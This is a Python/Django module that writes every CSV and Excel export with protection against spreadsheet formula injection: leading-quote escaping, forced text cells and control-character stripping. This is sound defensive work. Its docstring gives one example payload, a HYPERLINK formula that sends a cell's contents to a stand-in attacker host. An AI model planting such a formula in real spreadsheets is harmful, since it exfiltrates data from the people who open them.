"""The one writer of spreadsheet files: every CSV and Excel file ISF hands out goes through here.

Exports, import error reports, import templates and the SLA report are opened by colleagues in Excel or
LibreOffice, and their cells hold text that strangers typed (the public contact form, the API, uploads).
A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, so
``=HYPERLINK("http://evil.example/?leak="&A1,"click")`` in a lead's city would leak the sheet at a click.
The rule (OWASP "CSV Injection"), kept here and nowhere else:

- **CSV**: a text cell starting with one of those characters gets a leading single quote, which Excel and
  LibreOffice read as "this is text" (:func:`csv_text`). A text that is only a signed number (``-12``,
  ``-1.234,56``) is left alone: a spreadsheet reads it as that number and nothing else.
- **Excel**: every text cell is written as a text cell (type ``s``), never as a formula or an error code, so
  the text stays exactly as typed (:func:`xlsx_file`).
- **Both**: control characters a worksheet cannot hold (NUL and the other C0 characters except tab, line
  feed and carriage return; openpyxl's ``ILLEGAL_CHARACTERS_RE``) are removed, so stored data can never make
  an export fail.
- Numbers, dates and booleans are never text: they stay numbers (negative ones too) and dates. CSV follows
  German Excel: ``;`` separated, decimal comma, ``DD.MM.YYYY``, UTF-8 with BOM. Times are local time, as on
  screen.

A row is any iterable of values; a file is an iterable of rows (the header row first).
"""

import csv
import math
import re
import tempfile
from collections.abc import Callable, Iterable, Iterator
from datetime import date, datetime
from decimal import Decimal
from typing import IO

from django.http import FileResponse, StreamingHttpResponse
from django.utils import timezone
from django.utils.translation import gettext

#: what makes a spreadsheet evaluate a cell when it is the cell's first character
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: the control characters no worksheet may contain (the same set as openpyxl's ILLEGAL_CHARACTERS_RE)
CONTROL_CHARACTERS = re.compile(r"[\000-\010\013\014\016-\037]")
#: a text that is nothing but a signed number: a spreadsheet reads it as that number, no formula
_SIGNED_NUMBER = re.compile(r"[+-][0-9][0-9.,]*")
#: UTF-8 byte order mark: German Excel opens a UTF-8 CSV correctly only with it
BOM = "\ufeff"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def clean_text(value) -> str:
    """``value`` as text without the control characters a worksheet cannot hold."""
    return CONTROL_CHARACTERS.sub("", str(value))


def csv_text(value) -> str:
    """A text cell for a CSV file: cleaned, and quoted with ``'`` when a spreadsheet would evaluate it."""
    text = clean_text(value)
    if text.startswith(FORMULA_START) and not _SIGNED_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text_value(cell: str) -> str:
    """The value behind a text cell :func:`csv_text` wrote (for showing a report's cells on a page)."""
    if cell.startswith("'") and csv_text(cell[1:]) == cell:
        return cell[1:]
    return cell


def _is_number(value) -> bool:
    return isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)


def _local(value: datetime) -> datetime:
    """The company's wall-clock time without tzinfo (what the pages show; Excel knows no time zones)."""
    if timezone.is_aware(value):
        value = timezone.localtime(value, timezone.get_default_timezone())
    return value.replace(tzinfo=None)


def csv_cell(value) -> str:
    """One CSV cell: numbers with a decimal comma, German dates, yes/no, and every other value as safe text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return gettext("yes") if value else gettext("no")
    if _is_number(value):
        if isinstance(value, float) and not math.isfinite(value):
            return ""
        return (format(value, "f") if isinstance(value, Decimal) else str(value)).replace(".", ",")
    if isinstance(value, datetime):
        return _local(value).strftime("%d.%m.%Y %H:%M")
    if isinstance(value, date):
        return value.strftime("%d.%m.%Y")
    return csv_text(value)


class _Echo:
    """A file whose write() returns what it was given: csv.writer then yields lines instead of writing them."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable]) -> Iterator[str]:
    """The rows as CSV lines (``;``, ``\\r\\n``, quoted where needed), without the BOM."""
    writer = csv.writer(_Echo(), delimiter=";", lineterminator="\r\n")
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def csv_string(rows: Iterable[Iterable], *, bom: bool = True) -> str:
    """The whole CSV file as one string (small files: templates, reports)."""
    return (BOM if bom else "") + "".join(csv_lines(rows))


def write_csv(path, rows: Iterable[Iterable]) -> None:
    """Write the rows to ``path`` as a CSV file German Excel opens directly (UTF-8 with BOM)."""
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        f.writelines(csv_lines(rows))


def csv_response(rows: Iterable[Iterable], filename: str) -> StreamingHttpResponse:
    """A streamed CSV download (the rows are read as the response is sent)."""
    response = StreamingHttpResponse(_with_bom(csv_lines(rows)), content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def _with_bom(lines: Iterator[str]) -> Iterator[str]:
    yield BOM
    yield from lines


def _xlsx_cells(sheet) -> Callable[[object], object]:
    """The converter of values for a write-only sheet: numbers and dates as they are, all else as text cells."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES

    def cell(value):
        if value is None or isinstance(value, (bool, int)):
            return value
        if isinstance(value, (float, Decimal)):
            return float(value) if math.isfinite(value) else None
        if isinstance(value, datetime):
            return _local(value)
        if isinstance(value, date):
            return value
        text = clean_text(value)
        if not text.startswith("=") and text not in ERROR_CODES:
            return text  # openpyxl writes any other text as a text cell (a cell object per text costs a third more)
        forced = WriteOnlyCell(sheet, value=text)
        forced.data_type = "s"  # openpyxl would make "=..." a formula and "#N/A" an error: text stays text
        return forced

    return cell


def xlsx_file(rows: Iterable[Iterable], *, title: str = "Export") -> IO[bytes]:
    """The rows as an Excel workbook of one sheet, in a temporary file positioned at its start."""
    from openpyxl import Workbook  # deferred: a noticeable import that CSV files never need

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title)
    cell = _xlsx_cells(sheet)
    for row in rows:
        sheet.append([cell(value) for value in row])
    f = tempfile.TemporaryFile()
    workbook.save(f)
    f.seek(0)
    return f


def xlsx_response(rows: Iterable[Iterable], filename: str) -> FileResponse:
    """An Excel download of the rows."""
    return FileResponse(xlsx_file(rows), as_attachment=True, filename=filename, content_type=XLSX_CONTENT_TYPE)
